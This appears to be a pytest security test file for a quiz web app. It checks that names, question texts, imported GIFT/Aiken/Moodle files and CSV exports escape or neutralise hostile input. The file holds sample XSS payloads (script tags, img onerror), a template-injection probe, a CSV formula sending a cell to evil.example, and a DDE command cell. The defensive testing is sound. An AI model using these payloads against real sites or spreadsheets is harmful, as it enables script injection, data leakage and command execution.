"""Hostile text: script and HTML payloads in every field a person writes (names, nicknames, class names,
bank, question, quiz and source texts, imported files, an article drafted into a bank) are shown as text
on every page that shows them, carried as data by the API, and never start a formula in a CSV. A template
expression typed in is shown as typed, never evaluated.

Each field holds ``value(field)``: its own name, then the payloads, so a page can be checked for each
field it should show. A page passes when its raw HTML holds no payload as markup and its text (entities
decoded) holds each expected field's value whole.
"""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from quizapp.domain.bank_format import parse_bank
from quizapp.extensions import db
from quizapp.models import Attempt, Bank, NameDisplay, Question, Quiz, Role, utcnow
from quizapp.services import attempts, classrooms, users
from quizapp.services.banks import drafting, sharing, writing
from tests.support import DATA, PASSWORD
from tests.support.api_client import basic
from tests.support.builders import any_response, member
from tests.support.pages import signed_in

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# What must never be found in a page's raw HTML: the payloads as markup.
MARKUP = ("<script>alert", "<img src=x", "<img src=\"x")


def value(field: str) -> str:
    """The payloads after a label saying where they were typed; a display name holds 80 characters at most, so
    labels of names stay short (PostgreSQL refuses a longer one where SQLite would store it)."""
    return f"{field}:{SCRIPT}{IMG}{TEMPLATE}"


NICKNAME = "nick:" + SCRIPT  # nicknames are at most 40 characters
TYPES = ["single_choice", "multiple_select", "true_false", "short_answer", "ordering", "cloze"]


def question(kind: str, **fields) -> dict:
    entry = {"id": kind.replace("_", "-"), "type": kind, "prompt": value(f"prompt-{kind}"),
             "explanation": value(f"explanation-{kind}"), "source": "key_point 1", "difficulty": 1,
             "passage": value(f"passage-{kind}"), "tags": [value(f"tag-{kind}")]}
    return {**entry, **fields}


def hostile_bank() -> str:
    import yaml

    choices = [value("choice-a"), value("choice-b"), value("choice-c")]
    return yaml.safe_dump({
        "version": 1, "id": "hostile", "title": value("bank-title"), "description": value("bank-description"),
        "source": {"title": value("source-title"),
                   "sections": [{"number": 1, "title": value("section-title")}],
                   "key_points": [{"number": 1, "text": value("key-point")}],
                   "faqs": [{"number": 1, "question": value("faq-question"), "answer": value("faq-answer")}]},
        "quizzes": [{"id": "hostile-quiz", "title": value("quiz-title"), "description": value("quiz-description"),
                     "shuffle": False}],
        "questions": [
            question("single_choice", choices=choices, answer=choices[0]),
            question("multiple_select", choices=choices, answers=choices[:2]),
            question("true_false", answer=True),
            question("short_answer", accepted=[value("accepted")]),
            question("ordering", items=[value("item-1"), value("item-2"), value("item-3")]),
            question("cloze", text=value("cloze-text") + " {1}.", blanks=[[value("blank")]]),
        ],
    }, allow_unicode=True, sort_keys=False)


GIFT = ("::gift-q:: gift-question:<script>alert(1)</script>\"><img src\\=x onerror\\=alert(1)> "
        "{=gift-right:<b>bold</b> ~gift-wrong:<i>x</i>}\n")
AIKEN = ("aiken-question:<script>alert(1)</script>\"><img src=x onerror=alert(1)>\n"
         "A. aiken-a<b>\nB. aiken-b\nANSWER: A\n")
MOODLE = """<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="truefalse">
    <name><text>xml-q</text></name>
    <questiontext format="plain_text"><text>{}</text></questiontext>
    <answer fraction="100"><text>true</text></answer>
    <answer fraction="0"><text>false</text></answer>
  </question>
</quiz>
""".format('xml-question:&lt;script&gt;alert(1)&lt;/script&gt;"&gt;&lt;img src=x onerror=alert(1)&gt;')
IMPORTED = {"gift": 'gift-question:<script>alert(1)</script>"><img src=x onerror=alert(1)>',
            "aiken": 'aiken-question:<script>alert(1)</script>"><img src=x onerror=alert(1)>',
            "xml": 'xml-question:<script>alert(1)</script>"><img src=x onerror=alert(1)>'}
ARTICLE_PAYLOAD = "Ada Lovell <script>alert(1)</script>"


class World:
    """Tina teaches a class with a hostile name; ana (hostile name and nickname) and bob (a formula for a
    name) are in it and have each finished the assignment of tina's hostile bank's quiz; tina shares the
    bank with otto (a hostile name too), imported three hostile files into it and drafted a bank from an
    article with a hostile sentence."""

    def __init__(self, app):
        self.tina = users.create_user("tina", value("teacher-name"), PASSWORD, Role.TEACHER)
        self.otto = users.create_user("otto", value("otto-name"), PASSWORD, Role.TEACHER)
        self.classroom = classrooms.create_classroom(self.tina, value("class-name"))
        self.ana = member(self.classroom, "ana", value("student-name"), NICKNAME)
        self.bob = member(self.classroom, "bob", FORMULA)
        writing.store(None, parse_bank(hostile_bank(), "hostile.yaml"), owner_id=self.tina.id)
        self.bank = db.session.scalar(select(Bank).where(Bank.key == "hostile"))
        self.quiz = db.session.scalar(select(Quiz).where(Quiz.bank_id == self.bank.id, Quiz.key == "hostile-quiz"))
        own = [kind.replace("_", "-") for kind in TYPES]  # the imported questions aside
        self.questions = {q.type: q for q in db.session.scalars(
            select(Question).where(Question.bank_id == self.bank.id, Question.key.in_(own)))}
        sharing.share_bank(self.bank, "otto")
        now = utcnow()
        self.assignment = classrooms.create_assignment(self.classroom, self.quiz, now - timedelta(days=1),
                                                       now + timedelta(days=1), None, 1)
        tina = signed_in(app, "tina")
        for (name, text), shows in zip((("hostile.gift", GIFT), ("hostile.txt", AIKEN), ("hostile.xml", MOODLE)),
                                       IMPORTED.values(), strict=True):
            preview = tina.post(f"/teach/banks/{self.bank.id}/import", content_type="multipart/form-data",
                                data={"file": (io.BytesIO(text.encode()), name), "source": "section 1", "format": ""})
            # The preview of what the import would do shows the file's text as text; confirming imports it.
            raw = shown(preview, texts=(shows[:100],))
            token = re.search(r'name="token" type="hidden" value="([^"]+)"', preview.get_data(as_text=True))
            response = tina.post(f"/teach/banks/{self.bank.id}/import", data={"token": token.group(1), "confirm": "y"})
            assert response.status_code == 302, raw[-3000:]
        article = (DATA / "articles" / "harbour.txt").read_text().replace("Ada Lovell", ARTICLE_PAYLOAD)
        self.drafted = drafting.create_bank(self.tina, article, "hostile-article.txt")
        # Bob answers with formulas where he can type; ana through the pages, in the test.
        attempt = attempts.start_assignment_attempt(self.bob, self.assignment)
        for item in attempt.items:
            raw = ["@SUM(1+1)"] if item.type == "short_answer" else (
                ["+cmd|' /C calc'!A0"] if item.type == "cloze" else any_response(item))
            attempts.record_answer(attempt, item.question_id, raw)
        attempts.finish_attempt(attempt)
        classrooms.set_name_display(self.classroom, NameDisplay.NICKNAME)


@pytest.fixture
def world(app, tiny_bank):
    return World(app)


def shown(response, *fields: str, texts: tuple[str, ...] = ()) -> str:
    """The page's text, after checking that no payload is markup and that each field is shown whole."""
    assert response.status_code == 200, (response.status_code, response.headers.get("Location"))
    raw = response.get_data(as_text=True)
    for markup in MARKUP:
        assert markup not in raw, f"{markup!r} is markup in {response.request.path}"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in raw or not fields
    text = html.unescape(raw)
    missing = [f for f in fields if value(f) not in text] + [t for t in texts if t not in text]
    assert not missing, f"{response.request.path} does not show {missing}"
    assert "49" not in text.replace("1949", "") or TEMPLATE in text
    return text


QUESTION_FIELDS = {kind: [f"prompt-{kind}"] for kind in TYPES}
QUESTION_FIELDS["single_choice"] += ["choice-a", "choice-b", "choice-c"]
QUESTION_FIELDS["multiple_select"] += ["choice-a", "choice-b", "choice-c"]
QUESTION_FIELDS["ordering"] += ["item-1", "item-2", "item-3"]
QUESTION_FIELDS["cloze"] = ["cloze-text"]  # a cloze shows its text, not its prompt
FEEDBACK_FIELDS = {kind: [f"explanation-{kind}", f"passage-{kind}", "key-point"] for kind in TYPES}
FEEDBACK_FIELDS["short_answer"].append("accepted")
FEEDBACK_FIELDS["cloze"].append("blank")
# What the results show of each: no longer the choices not picked.
RESULT_FIELDS = [f"prompt-{kind}" for kind in TYPES if kind != "cloze"] + [
    f for kind in TYPES for f in FEEDBACK_FIELDS[kind] if f != "blank"]


def kind_of(item) -> str | None:
    """The hostile bank's question type of an attempt item, or None for an imported question."""
    return item.type if item.question.key == item.type.replace("_", "-") else None


def fields_of(item, *tables) -> tuple[list[str], tuple[str, ...]]:
    """The fields an item's page should show, and for an imported question its text."""
    kind = kind_of(item)
    if kind is None:
        return [], tuple(t for t in IMPORTED.values() if t == item.question.prompt)
    return [f for table in tables for f in table[kind]], ()


def test_the_student_pages_show_every_field_as_text(app, world):
    ana = signed_in(app, "ana")
    shown(ana.get("/classes"), "class-name", "quiz-title")
    shown(ana.get(f"/classes/{world.classroom.id}"), "class-name", "quiz-title")
    response = ana.post(f"/assignments/{world.assignment.id}/start")
    attempt_id = int(response.headers["Location"].rsplit("/", 1)[1])
    attempt = db.session.get(Attempt, attempt_id)
    assert len(attempt.items) == len(TYPES) + len(IMPORTED)
    for item in attempt.items:
        fields, texts = fields_of(item, QUESTION_FIELDS)
        shown(ana.get(f"/attempts/{attempt_id}"), "quiz-title", *fields, texts=texts)
        raw = [value("typed")] if item.type in ("short_answer", "cloze") else any_response(item)
        answered = ana.post(f"/attempts/{attempt_id}/answer", data={"question_id": item.question_id, "response": raw})
        fields, texts = fields_of(item, FEEDBACK_FIELDS)
        shown(ana.get(answered.headers["Location"]), *fields, texts=texts)
    ana.post(f"/attempts/{attempt_id}/finish")
    shown(ana.get(f"/attempts/{attempt_id}/results"), "quiz-title", "typed", *RESULT_FIELDS,
          texts=tuple(IMPORTED.values()))
    shown(ana.get("/history"), "quiz-title")
    shown(ana.get(f"/classes/{world.classroom.id}"), "class-name", "quiz-title", "key-point",
          texts=(NICKNAME,))
    shown(ana.get(f"/classes/{world.classroom.id}/leaderboard"), "class-name", texts=(NICKNAME,))
    shown(ana.get(f"/assignments/{world.assignment.id}/leaderboard"), "class-name", "quiz-title", texts=(NICKNAME,))
    shown(ana.get("/quizzes"))
    shown(ana.get("/classes/join"), "student-name")
    # A message that names the class, after joining it.
    users.create_user("cy", "Cy", PASSWORD)
    cy = signed_in(app, "cy")
    joined = cy.post("/classes/join", data={"code": world.classroom.join_code, "nickname": NICKNAME})
    shown(cy.get(joined.headers["Location"]), "class-name", texts=(f"You joined {value('class-name')}.",))


def test_a_message_naming_what_was_typed_shows_it_as_text(app, world):
    tina = signed_in(app, "tina")
    created = tina.post("/teach/", data={"name": value("new-class")})
    shown(tina.get(created.headers["Location"]), "new-class", texts=(f"Created {value('new-class')}.",))
    saved = tina.post(f"/teach/banks/{world.bank.id}/edit", data={"title": value("new-title"), "description": ""})
    shown(tina.get(saved.headers["Location"]), "new-title")
    refused = tina.post(f"/teach/banks/{world.bank.id}/shares", data={"username": SCRIPT})
    assert refused.status_code == 400 and SCRIPT not in refused.get_data(as_text=True)


def finished_by_ana(world):
    attempt = attempts.start_assignment_attempt(world.ana, world.assignment)
    for item in attempt.items:
        raw = [value("typed")] if item.type in ("short_answer", "cloze") else any_response(item)
        attempts.record_answer(attempt, item.question_id, raw)
    return attempts.finish_attempt(attempt)


def test_the_teacher_pages_show_every_field_as_text(app, world):
    attempt = finished_by_ana(world)
    tina = signed_in(app, "tina")
    bank, classroom, assignment = world.bank.id, world.classroom.id, world.assignment.id
    prompts = [f"prompt-{kind}" for kind in TYPES if kind != "cloze"]
    choices = ["choice-a", "choice-b", "choice-c"]
    shown(tina.get("/teach/"), "class-name", "teacher-name")
    shown(tina.get(f"/teach/classes/{classroom}"), "class-name", "student-name", texts=(NICKNAME, FORMULA))
    shown(tina.get(f"/teach/classes/{classroom}/gradebook"), "class-name", "student-name", "quiz-title",
          texts=(FORMULA,))
    shown(tina.get(f"/teach/classes/{classroom}/mastery"), "class-name", "key-point")
    shown(tina.get(f"/teach/classes/{classroom}/students/{world.ana.id}"), "class-name", "student-name",
          "quiz-title", "key-point")
    shown(tina.get(f"/teach/assignments/{assignment}"), "class-name", "quiz-title", *prompts, *choices,
          texts=(NICKNAME,))
    shown(tina.get(f"/attempts/{attempt.id}/results"), "quiz-title", "typed", *prompts, "explanation-ordering")
    shown(tina.get(f"/teach/classes/{classroom}/assignments/new"), "class-name", "quiz-title", "bank-title")
    shown(tina.get("/teach/banks"), "bank-title")
    shown(tina.get(f"/teach/banks/{bank}"), "bank-title", "bank-description", *prompts,
          *(f"tag-{kind}" for kind in TYPES),
          texts=tuple(IMPORTED.values()))
    shown(tina.get(f"/teach/banks/{bank}/shares"), "bank-title", "otto-name")
    for tab in ("import", "download", "questions/new"):
        shown(tina.get(f"/teach/banks/{bank}/{tab}"), "bank-title")
    shown(tina.get(f"/teach/banks/{bank}?q=script"), "bank-title", *prompts)
    shown(tina.get(f"/teach/banks/{bank}/edit"), "bank-title", "bank-description")
    shown(tina.get(f"/teach/banks/{bank}/quizzes"), "bank-title", "quiz-title", "quiz-description")
    quiz_form = shown(tina.get(f"/teach/banks/{bank}/quizzes/{world.quiz.id}/edit"), "quiz-title",
                      "quiz-description", *prompts)
    assert value("tag-ordering") in quiz_form
    shown(tina.get(f"/teach/banks/{bank}/delete"), "bank-title")
    shown(tina.get(f"/teach/banks/{bank}/update-from-article"), "bank-title")
    for kind, q in world.questions.items():
        fields = QUESTION_FIELDS[kind] + FEEDBACK_FIELDS[kind]
        shown(tina.get(f"/teach/banks/{bank}/questions/{q.id}/preview"), "bank-title", *fields)
        shown(tina.get(f"/teach/banks/{bank}/questions/{q.id}/edit"), "bank-title", f"explanation-{kind}",
              f"passage-{kind}", f"tag-{kind}")
    drafts = shown(tina.get(f"/teach/banks/{world.drafted.id}/drafts"))
    assert ARTICLE_PAYLOAD in drafts
    shown(tina.get(f"/teach/banks/{world.drafted.id}"))
    shown(tina.get("/quizzes"), "quiz-title", "quiz-description")
    otto = signed_in(app, "otto")
    shown(otto.get("/teach/banks"), "bank-title", "teacher-name")
    shown(otto.get(f"/teach/banks/{bank}"), "bank-title", "teacher-name", *prompts)


def test_the_api_carries_every_field_as_data(app, world):
    def token(username):
        response = app.test_client().post("/api/v1/tokens", headers=basic(username, PASSWORD))
        return {"Authorization": "Bearer " + response.get_json()["token"]}

    def call(method, path, headers, **kwargs):
        response = app.test_client().open("/api/v1" + path, method=method, headers=headers, **kwargs)
        assert response.status_code in (200, 201) and response.mimetype == "application/json", path
        return response.get_json()

    def strings(body) -> set[str]:
        if isinstance(body, dict):
            return set(body).union(*(strings(v) for v in body.values()))
        if isinstance(body, list):
            return set().union(set(), *(strings(v) for v in body))
        return {body} if isinstance(body, str) else set()

    ana, tina = token("ana"), token("tina")
    attempt = call("POST", f"/assignments/{world.assignment.id}/attempts", ana)
    while (current := call("GET", f"/attempts/{attempt['id']}/question", ana)["question"]) is not None:
        item = next(i for i in db.session.get(Attempt, attempt["id"]).items if i.question_id == current["question_id"])
        fields, texts = fields_of(item, QUESTION_FIELDS)
        # A cloze's text comes in pieces around its blanks.
        wanted = {value(f) for f in fields if f != "cloze-text"} | set(texts)
        assert wanted <= strings(current), (item.question.key, wanted - strings(current))
        raw = [value("typed")] if item.type in ("short_answer", "cloze") else any_response(item)
        feedback = call("POST", f"/attempts/{attempt['id']}/answers", ana,
                        json={"question_id": current["question_id"], "response": raw})
        fields, _ = fields_of(item, FEEDBACK_FIELDS)
        wanted = {value(f) for f in fields if f != "key-point"}
        assert wanted <= strings(feedback), (item.question.key, wanted - strings(feedback))
    call("POST", f"/attempts/{attempt['id']}/finish", ana)
    expected = {
        ("/classes", "ana"): [value("class-name"), value("quiz-title")],
        (f"/classes/{world.classroom.id}/leaderboard", "ana"): [NICKNAME],
        (f"/assignments/{world.assignment.id}/leaderboard", "ana"): [NICKNAME],
        (f"/attempts/{attempt['id']}/result", "ana"): [value(f"prompt-{k}") for k in TYPES] + [value("typed")]
                                                      + [value(f"explanation-{k}") for k in TYPES],
        ("/quizzes", "tina"): [value("quiz-title"), value("quiz-description")],
        ("/classes", "tina"): [value("class-name")],
        (f"/classes/{world.classroom.id}/gradebook", "tina"): [value("student-name"), FORMULA],
        (f"/assignments/{world.assignment.id}/answers", "tina"): [value("student-name"), value("typed"),
                                                                  "@SUM(1+1)"],
        (f"/assignments/{world.assignment.id}/statistics", "tina"): [value("prompt-single_choice"),
                                                                     value("choice-a")],
    }
    for (path, who), values in expected.items():
        body = call("GET", path, ana if who == "ana" else tina)
        missing = [v for v in values if v not in strings(body)]
        assert not missing, f"{path} does not carry {missing}"


def cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def assert_no_formula(text: str) -> list[str]:
    found = cells(text)
    for cell in found:
        if cell[:1] in ("=", "+", "-", "@"):
            try:
                float(cell)
            except ValueError:
                pytest.fail(f"a CSV cell starts like a formula: {cell!r}")
    return found


def test_the_csv_files_neutralise_formulas_and_keep_payloads_as_text(app, world):
    finished_by_ana(world)
    tina = signed_in(app, "tina")
    gradebook = assert_no_formula(tina.get(f"/teach/classes/{world.classroom.id}/gradebook.csv").get_data(as_text=True))
    assert "'" + FORMULA in gradebook and value("student-name") in gradebook
    answers = assert_no_formula(tina.get(f"/teach/assignments/{world.assignment.id}/answers.csv")
                                .get_data(as_text=True))
    assert {"'" + FORMULA, "'@SUM(1+1)", value("student-name"), value("typed")} <= set(answers) | {
        c for cell in answers for c in cell.split(" | ")}
    exported = tina.get(f"/teach/banks/{world.bank.id}/export/csv")
    assert exported.status_code == 200
    assert value("prompt-single_choice") in assert_no_formula(exported.get_data(as_text=True))
